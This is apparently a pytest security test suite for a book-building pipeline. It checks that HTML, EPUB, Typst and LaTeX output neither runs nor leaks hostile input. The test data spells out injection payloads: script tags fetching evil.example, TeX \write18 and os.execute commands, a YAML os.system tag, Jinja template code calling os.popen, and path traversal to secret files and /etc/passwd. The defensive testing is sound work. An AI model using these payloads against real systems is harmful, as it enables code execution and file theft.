"""Data and chapters from strangers: text is text or is refused; nothing is executed, nothing of the machine is read."""

from __future__ import annotations

import re
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import lxml.html
import pytest
import yaml

from bilateral.bibliography import read_bibliography
from bilateral.document import Document
from bilateral.rules import judge
from bilateral.validation import validate
from bilateral.volume import Volume
from pipeline.conftest import ROOT, Built, SmallVolume, copied_volume
from pipeline.test_make import make
from tools import need

if TYPE_CHECKING:
    from playwright.sync_api import Browser

TOKEN = "mullpomtirgqux"
"""What stands in a file that nobody may read: it must be nowhere in what is published."""
CANARY = "executed"
"""A file that code in a text would make."""


def texts(folder: Path) -> list[str]:
    """Return what a stranger could write into a field, with the paths of a secret file and of a canary."""
    secret, canary = folder / "secret.txt", folder / CANARY
    return [
        f"<script>document.title = '{CANARY}'; fetch('https://evil.example/{CANARY}')</script>",
        f"<img src=x onerror=\"document.title='{CANARY}'\"><svg onload=\"document.title='{CANARY}'\">",
        f']]></title></textarea></style><iframe src="file://{secret}"></iframe>',
        f"\\input{{{secret}}} \\openin5={secret} \\include{{{secret}}} \\verbatiminput{{{secret}}}",
        f"\\immediate\\write18{{touch {canary}}} ^^5cinput{{{secret}}} \\directlua{{os.execute('touch {canary}')}}",
        "\\end{document} \\catcode`\\{=12 $$ \\loop\\iftrue\\repeat ## %",
        f'#read("{secret}") #eval("1") #include "{secret}" #import "@preview/cetz:0.3.4"',
        f'"); #read("{secret}") // \\u{{22}} ] #panic("{CANARY}") [',
        f".. include:: {secret}  `x <file://{secret}>`__ :raw-html:`<b>` |x| [1]_",
        f"```{{include}} {secret} ``` {{download}}`{secret}` {{eval-rst}} {{raw}}`x` ![x]({secret}) (label)=",
        f"!!python/object/apply:os.system ['touch {canary}'] *alias &anchor <<: {{}}",
        f"${{HOME}} $(touch {canary}) `touch {canary}` ; touch {canary} | touch {canary}",
        f"{{{{ 7 * 7 }}}} {{% include '{secret}' %}} {{# x #}} %(title)s {{0}} {{title}}",
        "\u05d0\u200f\u05d1 ar\u00adbi\u00adtrary e\u0301 \u212b \ufb01",
        "@misc{x, title = {y}} \\cite{x} TY  - BOOK ER  -",
        f"../../{CANARY} ..\\..\\{CANARY} /etc/passwd C:\\Windows %2e%2e%2f",
    ]


def free_texts(data: dict[str, Any]) -> Iterator[tuple[dict[str, Any] | list[Any], str | int]]:
    """Yield the place of each value that may be any text: the model takes a strange one."""
    strange = "x <b> \\y #z"
    sources, _ = read_bibliography(ROOT / "tests/volume/references.bib")

    def walk(node: Any) -> Iterator[tuple[dict[str, Any] | list[Any], str | int]]:
        for key, value in node.items() if isinstance(node, dict) else enumerate(node):
            if isinstance(value, dict | list):
                yield from walk(value)
                continue
            node[key] = strange
            document = Document("data/relations.yaml", data, {})
            read, problems = validate(document)
            node[key] = value
            if read and not problems and not list(judge(Volume(read, sources, document))):
                yield node, key

    return walk(data)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[SmallVolume, list[str]]:
    """A volume whose every free text is a hostile one, each another, and these texts."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "secret.txt").write_text(TOKEN)
    small = copied_volume(folder / "small")
    path = small.folder / "data/relations.yaml"
    data = yaml.load(path.read_text("utf-8"), yaml.BaseLoader)
    kinds, written = texts(folder), []
    for number, (node, key) in enumerate(list(free_texts(data))):
        written.append(f"{kinds[number % len(kinds)]} N{number:03}")
        node[key] = written[-1]  # type: ignore[index]
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")
    return small, written


def assert_harmless(built: Built, words: bytes) -> None:
    assert built.status == 0, built.said
    assert TOKEN.encode() not in words
    assert not list(built.out.parents[1].rglob(CANARY))


def test_enough_is_tried(hostile: tuple[SmallVolume, list[str]]) -> None:
    _, written = hostile
    assert len(written) > 30
    assert len({text[:-5] for text in written}) == len(texts(Path()))


def test_html_shows_hostile_text_and_runs_nothing(hostile: tuple[SmallVolume, list[str]], browser: Browser) -> None:
    small, written = hostile
    built = small.build("html")
    assert_harmless(built, b"".join(path.read_bytes() for path in built.out.rglob("*") if path.is_file()))
    shown = " ".join(
        " ".join(lxml.html.parse(path).getroot().text_content().split()) for path in sorted(built.out.rglob("*.html"))
    )
    seen = [text for text in written if " ".join(text.split()) in shown]
    assert len(seen) >= 20
    asked: list[str] = []
    for path in sorted(built.out.rglob("*.html")):
        tab = browser.new_page()  # one each: a page that leads on would meet the next one
        tab.on("request", lambda request: asked.append(request.url))
        tab.goto(path.as_uri())
        tab.wait_for_load_state("load")
        assert CANARY not in tab.title().split()
        tab.close()
    assert {url.partition(":")[0] for url in asked} <= {"file", "data"}
    assert not [url for url in asked if "secret" in url or CANARY in url]


def test_epub_holds_hostile_text(hostile: tuple[SmallVolume, list[str]]) -> None:
    small, _ = hostile
    built = small.build("epub")
    names = list(built.out.glob("*.epub"))
    assert len(names) == 1
    with zipfile.ZipFile(names[0]) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    assert_harmless(built, b"".join(parts.values()))
    assert not [name for name in parts if ".." in name or name.startswith("/")]
    pages = [lxml.etree.fromstring(part) for name, part in parts.items() if name.endswith((".xhtml", ".opf", ".ncx"))]
    assert not [node for page in pages for node in page.iter("{*}script")]
    assert not [name for page in pages for node in page.iter() for name in node.attrib if str(name).startswith("on")]


def test_typst_sets_hostile_text(hostile: tuple[SmallVolume, list[str]]) -> None:
    need("pdftotext")
    small, _ = hostile
    built = small.build("typst")
    assert built.status == 0, built.said
    (pdf,) = built.out.glob("*.pdf")
    assert_harmless(built, _words_of(pdf))
    assert "#read(" in _words_of(pdf).decode()


@pytest.mark.latex
def test_tex_sets_hostile_text(hostile: tuple[SmallVolume, list[str]]) -> None:
    need("xelatex", "latexmk", "xindy", "pdftotext", "fc-match")
    small, _ = hostile
    match = ["fc-match", "--format=%{file}", "DejaVu Sans"]  # it has letters of Hebrew
    font = Path(subprocess.run(match, capture_output=True, text=True, check=True).stdout)
    built = small.build("latex", "-D", f"typst_font_paths={font.parent}")
    assert built.status == 0, built.said
    make = ["make", "-C", str(built.out), "all-pdf", "LATEXMKOPTS=-quiet -halt-on-error -interaction=nonstopmode"]
    done = subprocess.run(make, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout[-3000:]
    (pdf,) = built.out.glob("*.pdf")
    assert_harmless(built, _words_of(pdf))


def _words_of(pdf: Path) -> bytes:
    return subprocess.run(["pdftotext", "-raw", pdf, "-"], check=True, capture_output=True).stdout


KINDS = ("raw", "file", "address", "character", "date")
CHAPTER = r"""
<script>document.title = 'executed'</script>  %% raw: '<script>
A <b onclick="x()">bold</b> word.  %% raw: '<b onclick

```{raw} html
:file: SECRET
```
%% disabled

```{raw} latex
\input{SECRET}
```
%% disabled

```{include} SECRET
```
%% file not found

```{include} <SECRET>
```
%% file: '<SECRET>' is outside

```{include} ../../../secret.txt
:literal:
```
%% file: '../../../secret.txt' is outside

```{literalinclude} ../../../secret.txt
```
%% file: '../../../secret.txt' is outside

```{literalinclude} chapter.md
:diff: ../../../secret.txt
```
%% file: '../../../secret.txt' is outside

```{csv-table} Secrets
:name: table-secrets
:file: SECRET
```
%% file: 'SECRET' is outside

```{csv-table} More secrets
:name: table-more-secrets
:url: file://SECRET
```
%% file: 'file://SECRET' is outside

```{figure} ../../../secret.txt
:name: figure-secret
:figwidth: image

A secret.
```
%% file: '../../../secret.txt' is outside

```{eval-rst}
.. include:: SECRET
```
%% No such file or directory

```{eval-rst}
.. include:: ../../../secret.txt
```
%% file: '../../../secret.txt' is outside

```{eval-rst}
.. raw:: html

   <script>1</script>
```
%% disabled

```{eval-rst}
.. role:: hot(raw)
   :format: html

:hot:`<script>1</script>`
```
%% disabled

```{eval-rst}
.. include:: chapter.md
   :parser: antigravity
```
%% unknown option: "parser"

```{eval-rst}
`click <javascript:alert(1)>`__
```
%% address: not to 'javascript:'

```{eval-rst}
`here <JaVaScRiPt:alert(1)>`__
```
%% address: not to 'JaVaScRiPt:'

```{eval-rst}
`there <data:text/html,x>`__
```
%% address: not to 'data:'

{download}`a secret <../../../secret.txt>`  %% file: '../../../secret.txt' is outside

![x](../../../secret.txt)  %% file: '../../../secret.txt' is outside

![x](https://evil.example/x.png)  %% file: 'https://evil.example/x.png' would be loaded

[x](../../../secret.txt)  %% file: '../../../secret.txt' is outside

[x](/SECRET)  %% file: '/SECRET' is outside

{download}`x </SECRET>`  %% file: '/SECRET' is outside

{download}`x <a:/../../../../../../../../../SECRET>`  %% file: SECRET' is outside

{download}`x <javascript://%0aalert(1)>`  %% address: not to 'javascript:'

[a file](file://SECRET) [x](javascript:alert(1)) [y](<data:text/html,x>){onclick="x()" style="color: red"}

```{eval-rst}
.. meta::
   :http-equiv=refresh: 0;url=https://evil.example/
```
%% raw: orders to the browser

```{eval-rst}
.. tabularcolumns:: |l|>{\input{SECRET}}|
```
%% raw: more than kinds and widths

```{eval-rst}
.. math:: a \input{SECRET}
```
%% raw: '\input' is no mathematics

A formula {math}`\text{\write18{touch executed}}` here.  %% raw: '\write' is no mathematics

A formula {math}`\begin{input}{SECRET}\end{input}` here.  %% raw: is no mathematics

A formula {math}`\begin\relax{matrix}` here.  %% raw: is no mathematics

```{math}
:label: x}\input{SECRET}
a
```
%% raw: is no mathematics

A formula {math}`a^^5cb` here.  %% raw: '^^' is no mathematics

A formula that is one: {math}`\frac{a}{b} \leq \alpha \begin{matrix}a\end{matrix}`.

A word that is turned &#x202e;around.  %% character: U+202E

```{eval-rst}
.. |today-is| date:: %c

|today-is|
```
%% date: the day of building

```{toctree}
Here <javascript://x%0aalert(1)>
```
%% address: not to 'javascript:'

A word that is turned TURNaround.  %% character: U+202E
"""


@pytest.fixture(scope="module")
def refused(tmp_path_factory: pytest.TempPathFactory) -> tuple[Built, dict[int, str]]:
    """A volume whose chapter does what it may not, built; and what is to be said, by line, of which thing."""
    folder = tmp_path_factory.mktemp("refused")
    (folder / "secret.txt").write_text(f"{TOKEN}\n\n({TOKEN})=\n# {TOKEN}\n")
    small = copied_volume(folder / "volume/small")
    lines: list[str] = []
    expected: dict[int, str] = {}
    start = 0
    small.append("chapters/chapter.md", "\n## What strangers write\n")  # a section of its own, which tells no facts
    before = (small.folder / "chapters/chapter.md").read_text("utf-8").count("\n")
    for line in CHAPTER.replace("SECRET", str(folder / "secret.txt")).replace("TURN", "\u202e").splitlines():
        text, mark, said = line.partition("%% ")
        if text.strip() and not start:
            start = len(lines) + 1
        if mark:
            expected[before + (start or len(lines))] = said
            start = 0
        lines.append(text.rstrip())
    small.append("chapters/chapter.md", "\n".join(lines) + "\n")
    return small.build("html", "--keep-going"), expected


def test_a_chapter_cannot_read_files_or_bring_code(refused: tuple[Built, dict[int, str]]) -> None:
    built, expected = refused
    assert built.status != 0
    assert "Traceback" not in built.said
    missing = []
    told = re.split(r"\n(?=/)", built.said)
    for line, said in expected.items():
        kind, _, words = said.rpartition(": ") if said.partition(": ")[0] in KINDS else ("", "", said)
        place = re.compile(rf":({line}|{line + 1}|{line + 2}):|roles disabled")  # docutils gives roles no line
        found = [text.strip() for text in told if words in text and place.search(text)]
        if not found or (kind and not any(text.endswith(f"[guard.{kind}]") for text in found)):
            missing.append(f"{line}: {said}")
    assert not missing, "\n".join([*missing, built.said])


def test_nothing_of_it_is_in_the_pages(refused: tuple[Built, dict[int, str]]) -> None:
    built, _ = refused
    files = [path for path in built.out.rglob("*") if path.is_file()]
    assert (built.out / "chapters/chapter.html") in files
    for path in files:
        assert TOKEN.encode() not in path.read_bytes(), path
    page = (built.out / "chapters/chapter.html").read_text("utf-8")
    tree = lxml.html.fromstring(page)
    assert not [
        link for link in tree.iter("a") if re.match(r"\s*(javascript|data|file):", link.get("href", ""), re.IGNORECASE)
    ]
    assert not [node for node in tree.iter() if any(name.startswith("on") for name in node.attrib)]
    assert "evil.example" not in page
    assert "document.title = 'executed'" not in page


def test_a_chapter_that_is_a_link_is_left_out(small: SmallVolume) -> None:
    secret = small.folder.parent / "secret.md"
    secret.write_text(f"({TOKEN})=\n# {TOKEN}\n", "utf-8")
    (small.folder / "linked.md").symlink_to(secret)
    small.edit("index.md", "chapters/reference\n", "chapters/reference\nlinked\n")
    built = small.build("html", "--keep-going")
    assert built.status != 0
    assert f"linked.md: is a link to {secret}, outside the source folder; copy it" in built.said
    assert "Traceback" not in built.said
    assert not list(built.out.rglob("*.html"))


def test_a_folder_or_picture_that_is_a_link_stops_the_build(small: SmallVolume) -> None:
    elsewhere = small.folder.parent / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "secret.en.png").write_text(TOKEN)
    (small.folder / "pictures").symlink_to(elsewhere)
    (small.folder / "inner.png").symlink_to(elsewhere / "secret.en.png")
    (small.folder / "fine.md").symlink_to(small.folder / "chapters/chapter.md")
    built = small.build("html", "--keep-going")
    assert built.status != 0
    assert re.findall(
        r"^(?:guard: |.*?: )?\S*/(pictures|inner\.png|fine\.md): is a link", built.said, re.MULTILINE
    ) == ["inner.png", "pictures"]


def test_labels_lead_nowhere_else(small: SmallVolume) -> None:
    small.append("chapters/chapter.md", "\nA [word]{#../../../up}.\n\n(" + "x" * 150 + ")=\n## Long\n\nText.\n")
    built = small.build("html", "--keep-going")
    assert built.status != 0
    assert "Traceback" not in built.said
    assert f"'{'x' * 100}' is no anchor" in built.said
    assert not list(small.folder.parent.rglob("up*"))


def test_whoever_trusts_all_may_have_it(small: SmallVolume) -> None:
    (small.folder.parent / "elsewhere.txt").write_text("A line from elsewhere.\n")
    small.append("conf.py", "trusted_authors = True\n")
    small.append(
        "chapters/chapter.md",
        "\nA <b>bold</b> word.\n\n```{include} ../../elsewhere.txt\n```\n\n<!-- for authors -->\n",
    )
    built = small.build("html")
    assert built.status == 0, built.said
    page = (built.out / "chapters/chapter.html").read_text("utf-8")
    assert "<b>bold</b>" in page
    assert "A line from elsewhere." in page


def test_comments_are_not_published(small: SmallVolume) -> None:
    small.append("chapters/chapter.md", f"\n<!-- {TOKEN} -->\n\n% {TOKEN}\n\nA word.<!-- {TOKEN} --> Another.\n")
    built = small.build("html")
    assert built.status == 0, built.said
    assert TOKEN not in (built.out / "chapters/chapter.html").read_text("utf-8")


@pytest.mark.latex
def test_tex_starts_no_program_and_reads_no_file_elsewhere(small: SmallVolume, tmp_path: Path) -> None:
    """Even code that somebody who is trusted has written: the book is set as anybody's."""
    need("xelatex", "latexmk", "xindy", "pdftotext")
    secret, canary = tmp_path / "secret.txt", tmp_path / CANARY
    secret.write_text(TOKEN)
    small.append("conf.py", "trusted_authors = True\n")
    code = rf"\immediate\write18{{touch {canary}}}\newread\secret\openin\secret={secret} "
    code += r"\ifeof\secret closedtexclosed\else\read\secret to \theline \theline\fi"
    small.append("chapters/chapter.md", f"\n```{{raw}} latex\n{code}\n```\n")
    done = make("latexpdf", f"SOURCE={small.folder}", f"BUILD={tmp_path / 'build'}")
    assert done.returncode == 0, done.stderr
    words = _words_of(tmp_path / "build/latex/northland-southland.pdf").decode()
    assert "closedtexclosed" in words
    assert TOKEN not in words
    assert not canary.exists()
    small.edit("chapters/chapter.md", code, rf"\input{{{secret}}}")
    failed = make("latexpdf", f"SOURCE={small.folder}", f"BUILD={tmp_path / 'build'}")
    assert failed.returncode != 0
    assert TOKEN not in failed.stdout + failed.stderr


@pytest.mark.parametrize("builder", ["epub", "typst", "latex"])
def test_nor_is_anything_of_it_in_another_format(builder: str, refused: tuple[Built, dict[int, str]]) -> None:
    small = SmallVolume(refused[0].out.parents[1] / "small")
    built = small.build(builder, "--keep-going", "-E")
    assert built.status != 0
    files = [path for path in built.out.rglob("*") if path.is_file()]
    assert files
    for path in files:
        content = path.read_bytes()
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as book:
                content = b"".join(map(book.read, book.namelist()))
        assert TOKEN.encode() not in content, path
        assert b"write18" not in content, path
    assert not list(small.folder.parent.rglob(CANARY))


def test_front_matter_cannot_switch_on_templates(small: SmallVolume) -> None:
    """MyST's substitutions are templates, and templates can call anything."""
    canary = small.folder.parent / CANARY
    before = (small.folder / "chapters/chapter.md").read_text("utf-8")
    run = f"{{{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}}}"
    for settings in (
        "myst: {enable_extensions: [substitution]}",
        "myst:\n  enable_extensions: [substitution]",
        "substitutions: {x: y}",
    ):
        (small.folder / "chapters/chapter.md").write_text(
            f"---\n{settings}\n---\n{before}\n## Of strangers\n\nSay {run} here.\n", "utf-8"
        )
        built = small.build("html", "--keep-going")
        assert built.status != 0
        assert "changes how the chapter is read; set it in conf.py" in built.said
        assert "Traceback" not in built.said
        assert not canary.exists()
    (small.folder / "chapters/chapter.md").write_text(f"---\nauthor: Nobody\n---\n{before}", "utf-8")
    built = small.build("html")
    assert built.status == 0, built.said
